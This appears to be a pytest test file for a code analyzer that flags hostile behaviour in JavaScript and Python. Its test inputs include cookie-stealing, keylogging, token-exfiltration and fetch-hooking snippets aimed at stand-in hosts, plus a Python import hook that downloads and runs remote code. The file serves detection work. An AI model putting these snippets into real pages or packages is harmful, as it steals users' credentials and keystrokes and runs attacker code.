"""What a script does to the page that it runs in."""

import pytest

from lazaretto.core.facts import Facts, Kind
from lazaretto.core.language import NoUnits
from lazaretto.languages import javascript, python


def _read(code: str) -> Facts:
    return javascript.read("javascript", code.encode(), NoUnits())


def _flows(facts: Facts) -> list[tuple[str | None, str | None]]:
    return [(facts.facts[flow.source].value, facts.facts[flow.sink].value) for flow in facts.flows]


@pytest.mark.parametrize(
    "code",
    [
        "new Image().src = 'https://c.invalid/?' + document.cookie;",
        "const s = document.createElement('script'); s.src = '//c.invalid/a.js?' + document.cookie;",
        "const s = document.createElement('img'); s.setAttribute('src', '//c.invalid/a?' + document.cookie);",
        "location.href = 'https://c.invalid/?' + document.cookie;",
        "window.location = 'https://c.invalid/?' + document.cookie;",
        "document.location.replace('https://c.invalid/?' + document.cookie);",
        "window.open('https://c.invalid/?' + document.cookie);",
        "fetch('https://c.invalid/', { method: 'POST', body: document.cookie });",
        "const x = new XMLHttpRequest(); x.open('POST', 'https://c.invalid/'); x.send(document.cookie);",
    ],
)
def test_a_page_sends_its_cookies(code: str) -> None:
    """Whatever loads something from an address that names its host sends what stands in the address."""
    facts = _read(code)
    assert "document.cookie" in {source for source, sink in _flows(facts) if sink and "c.invalid" in sink}


@pytest.mark.parametrize(
    "code",
    [
        "const t = document.cookie.match(/xsrf=(\\w+)/); fetch(url, { headers: { 'x-xsrf': t } });",
        "const s = document.createElement('script'); s.src = base + name; document.head.append(s);",
        "location.href = '/login';",
        "location.href = target;",
        "document.addEventListener('keydown', (e) => { if (e.key === 'Escape') close(); });",
        "document.addEventListener('click', (e) => fetch('https://c.invalid/' + e.target.id));",
        "const kept = localStorage.getItem('theme'); document.body.className = kept;",
    ],
)
def test_what_pages_do_every_day(code: str) -> None:
    """A token in a header for who served the page, parts of oneself, keys that stay: nothing is taken."""
    facts = _read(code)
    assert {fact.kind for fact in facts.facts} & {Kind.SECRET_READ, Kind.USER_WATCH} == set()


@pytest.mark.parametrize(
    "code",
    [
        "document.addEventListener('keydown', (e) => { new Image().src = 'https://k.invalid/?' + e.key; });",
        "document.onkeypress = function (e) { navigator.sendBeacon('https://k.invalid/', e.key); };",
        "let b = ''; window.addEventListener('keyup', (e) => { b += e.key; fetch('https://k.invalid/' + b); });",
        "$(document).on('paste', (e) => $.ajax({ url: 'https://k.invalid/', data: e.originalEvent.clipboardData }));",
    ],
)
def test_keys_that_go_away(code: str) -> None:
    """What is typed into a page counts as watched where it is sent to a host of the code's own."""
    facts = _read(code)
    assert ("keys of a page", "k.invalid") in [(source, (sink or "").split("/")[2]) for source, sink in _flows(facts)]


def test_what_is_kept_in_a_page() -> None:
    """A stored token that goes to a host of the code's own."""
    facts = _read("fetch('https://c.invalid/?t=' + localStorage.getItem('token'));")
    assert ("localStorage:token", "https://c.invalid/?t=*") in _flows(facts)


def test_what_is_handed_to_a_function_that_was_replaced() -> None:
    """It flows from the hook to an address of the hook's own; calling the original is no such address."""
    facts = _read(
        "const real = window.fetch;\nwindow.fetch = function (url, options) {\n"
        "  navigator.sendBeacon('https://c.invalid/in', options.body);\n  return real(url, options);\n};\n"
    )
    assert ("fetch", "https://c.invalid/in") in _flows(facts)


@pytest.mark.parametrize(
    "holder", ["[].filter", "''.split", "Math.max", "parseInt", "console.log", "(() => {})", "Array.prototype.map"]
)
def test_every_function_leads_to_function(holder: str) -> None:
    """The constructor of any function makes code of a text (ECMA-262, 20.2.3.1)."""
    facts = _read(f"const make = {holder}.constructor;\nmake('require', atob('YWxlcnQoMSk7'))(require);\n")
    assert [fact.value for fact in facts.facts if fact.kind is Kind.CODE_EVAL] == ["alert(1);"]


@pytest.mark.parametrize(
    ("code", "told"),
    [
        ("const c = require('clipboardy'); c.readSync(); c.writeSync('a');", ["clipboard", "clipboard exchanged"]),
        ("const c = require('clipboardy'); c.writeSync('a');", []),
    ],
)
def test_a_clipboard_that_is_exchanged(code: str, told: list[str]) -> None:
    """To put something there is told of who has looked there."""
    assert [fact.value for fact in _read(code).facts if fact.kind is Kind.USER_WATCH] == told


def test_a_clipboard_that_is_exchanged_in_python() -> None:
    """The same of the library that Python programs use."""
    facts = python.read("python", b"import pyperclip\nif pyperclip.paste():\n    pyperclip.copy('a')\n", NoUnits())
    watched = [fact.value for fact in facts.facts if fact.kind is Kind.USER_WATCH]
    assert watched == ["clipboard", "clipboard exchanged"]


@pytest.mark.parametrize(
    "put", ["sys.meta_path.insert(0, Finder())", "sys.meta_path.append(Finder)", "sys.path_hooks.append(hook)"]
)
def test_a_finder_runs_at_the_next_import(put: str) -> None:
    """What Python calls of an import hook runs without being called by anybody."""
    code = (
        "import sys\nfrom urllib.request import urlopen\n\ndef hook(path):\n    exec(urlopen('https://h.invalid/').read())\n\n"
        f"class Finder:\n    def find_spec(self, name, path, target=None):\n        hook(name)\n\n{put}\n"
    )
    facts = python.read("python", code.encode(), NoUnits())
    assert {fact.moment.value for fact in facts.facts if fact.kind in (Kind.CODE_EVAL, Kind.NET_CONNECT)} == {"load"}
